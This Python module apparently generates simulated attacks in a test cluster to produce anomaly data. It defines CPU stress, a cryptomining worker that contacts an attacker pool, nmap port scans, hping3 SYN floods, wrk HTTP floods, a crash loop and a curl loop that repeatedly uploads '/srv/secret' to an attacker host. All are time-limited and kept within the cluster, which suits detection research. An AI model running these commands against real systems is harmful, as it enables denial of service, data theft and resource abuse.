"""The kinds of attack: what each is, with which tool it is made, how strong and how long, and what it moves.

In: a `Node`, the attacker's machine and a strength in the kind's unit. Out: commands, each for its place, that end by
themselves after the episode's seconds. Every address is one of the cluster's own; every rate has a bound: the
strongest here, and the CPU quota of where the command runs.
"""

from __future__ import annotations

import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from models.scenarios.node import QUOTA_CPUS, Node, Outside
from models.scenarios.programs import miner

SINK_PORT, POOL_PORT = 9000, 9001
WEB_PORT = 80
UPLOAD_FILE = "/srv/secret"  # what an exfiltration takes, over and over
UPLOAD_BYTES = 64_000_000
SECONDS = (30, 80)
MINING_SECONDS = (60, 120)
OF_CONNECTIONS = ("est_conn", "tcp_sock_inuse", "ipv4_sock_inuse", "open_fds")

Command = list[str]


@dataclass(frozen=True)
class Kind:
    """A kind of attack."""

    name: str
    says: str
    unit: str
    strengths: tuple[float, ...]
    seconds: tuple[int, int]  # the shortest and the longest episode
    moves: tuple[str, ...]  # features that it moves by what it is, not those that were seen to move
    tools: tuple[str, ...]
    commands: Callable[[Node, Outside, float, int], Sequence[Command]]


def bounded(seconds: int, *command: str) -> Command:
    """`command`, ended after `seconds`, killed 2 s later."""
    return ["timeout", "--kill-after=2", str(seconds), *command]


def _cpu_stress(node: Node, _: Outside, share: float, seconds: int) -> Sequence[Command]:
    load = str(round(100 * share * QUOTA_CPUS))
    return [node.argv(*bounded(seconds, "stress-ng", "--quiet", "--cpu", "1", "--cpu-load", load))]


def _cryptojacking(node: Node, attacker: Outside, share: float, seconds: int) -> Sequence[Command]:
    worker = [sys.executable, "-IS", miner.__file__, attacker.address, str(POOL_PORT), str(share * QUOTA_CPUS)]
    return [node.argv(*bounded(seconds, *worker, str(seconds)))]


def _port_scan(node: Node, attacker: Outside, per_second: float, seconds: int) -> Sequence[Command]:
    rate = str(round(per_second))
    scan = ["nmap", "-sS", "-n", "-Pn", "-p1-65535", "--max-retries=0", f"--min-rate={rate}", f"--max-rate={rate}"]
    return [attacker.argv(*bounded(seconds, *scan, node.address))]


def _network_dos(node: Node, attacker: Outside, per_second: float, seconds: int) -> Sequence[Command]:
    # hping3 waits this long between two packets.
    interval_us = round(1_000_000 / per_second)
    syn = ["hping3", "--syn", "--destport", str(WEB_PORT), "--interval", f"u{interval_us}", "--data", "200", "--quiet"]
    return [attacker.argv(*bounded(seconds, *syn, node.address))]


def _application_dos(node: Node, attacker: Outside, connections: float, seconds: int) -> Sequence[Command]:
    wrk = ["wrk", "-t1", f"-c{connections:.0f}", f"-d{seconds}s", f"http://{node.address}:{WEB_PORT}/page0"]
    return [attacker.argv(*bounded(seconds, *wrk))]


def _mixed_dos(node: Node, attacker: Outside, part: float, seconds: int) -> Sequence[Command]:
    network, application = max(NETWORK_DOS.strengths), max(APPLICATION_DOS.strengths)
    return [
        *_network_dos(node, attacker, part * network, seconds),
        *_application_dos(node, attacker, max(1, part * application), seconds),
    ]


def _crash_loop(node: Node, _: Outside, per_second: float, seconds: int) -> Sequence[Command]:
    loop = 'while :; do sh -c "/bin/true; /bin/true; kill -SEGV \\$\\$"; sleep "$0"; done'
    return [node.argv(*bounded(seconds, "sh", "-c", loop, f"{1 / per_second:.3f}"))]


def _exfiltration(node: Node, attacker: Outside, megabytes_per_second: float, seconds: int) -> Sequence[Command]:
    url = f"http://{attacker.address}:{SINK_PORT}/"
    loop = 'while :; do curl -s -o /dev/null --limit-rate "$0" -T "$1" "$2" || sleep 1; done'
    limit = str(round(megabytes_per_second * 1e6))
    return [node.argv(*bounded(seconds, "sh", "-c", loop, limit, UPLOAD_FILE, url))]


CPU_STRESS = Kind(
    name="cpu-stress",
    says="something takes the CPU",
    unit="share of the node's CPU",
    strengths=(0.5, 0.7, 0.85, 1.0),
    seconds=SECONDS,
    moves=("cpu_sec_idle", "load1", "load5"),
    tools=("stress-ng",),
    commands=_cpu_stress,
)
CRYPTOJACKING = Kind(
    name="cryptojacking",
    says="a miner that keeps to a share of the CPU, and its connection to a pool",
    unit="share of the node's CPU",
    strengths=(0.3, 0.5, 0.7, 0.9),
    seconds=MINING_SECONDS,
    moves=("cpu_sec_idle", "load1", "load5"),
    tools=(),
    commands=_cryptojacking,
)
PORT_SCAN = Kind(
    name="port-scan",
    says="another machine of the network looks for open ports",
    unit="ports a second",
    strengths=(20, 100, 400, 1000),
    seconds=SECONDS,
    moves=("net_receive", "transmit_packets"),
    tools=("nmap",),
    commands=_port_scan,
)
NETWORK_DOS = Kind(
    name="network-dos",
    says="a flood of SYN packets to the web server",
    unit="packets a second",
    strengths=(300, 600, 1200, 2400),
    seconds=SECONDS,
    moves=("net_receive", "transmit_packets"),
    tools=("hping3",),
    commands=_network_dos,
)
APPLICATION_DOS = Kind(
    name="application-dos",
    says="as many requests to the web server as it answers",
    unit="connections",
    strengths=(2, 8, 24, 64),
    seconds=SECONDS,
    moves=("cpu_sec_idle", "load1", "transmit_packets", "net_receive", *OF_CONNECTIONS),
    tools=("wrk",),
    commands=_application_dos,
)
MIXED_DOS = Kind(
    name="mixed-dos",
    says="both floods at once",
    unit="part of the strongest of each",
    strengths=(0.125, 0.25, 0.5, 1.0),
    seconds=SECONDS,
    moves=("cpu_sec_idle", "load1", "transmit_packets", "net_receive", *OF_CONNECTIONS),
    tools=("hping3", "wrk"),
    commands=_mixed_dos,
)
CRASH_LOOP = Kind(
    name="crash-loop",
    says="a service that dies as soon as it is started",
    unit="restarts a second",
    strengths=(1, 3, 8, 20),
    seconds=SECONDS,
    moves=("forks_total", "cpu_sec_idle"),
    tools=(),
    commands=_crash_loop,
)
EXFILTRATION = Kind(
    name="exfiltration",
    says="a large file is uploaded, over and over",
    unit="MB a second",
    strengths=(1, 3, 6, 12),
    seconds=SECONDS,
    moves=("transmit_packets", "net_receive", "disk_read", "cpu_sec_idle"),
    tools=("curl",),
    commands=_exfiltration,
)
KINDS = {
    kind.name: kind
    for kind in (
        CPU_STRESS,
        CRYPTOJACKING,
        PORT_SCAN,
        NETWORK_DOS,
        APPLICATION_DOS,
        MIXED_DOS,
        CRASH_LOOP,
        EXFILTRATION,
    )
}
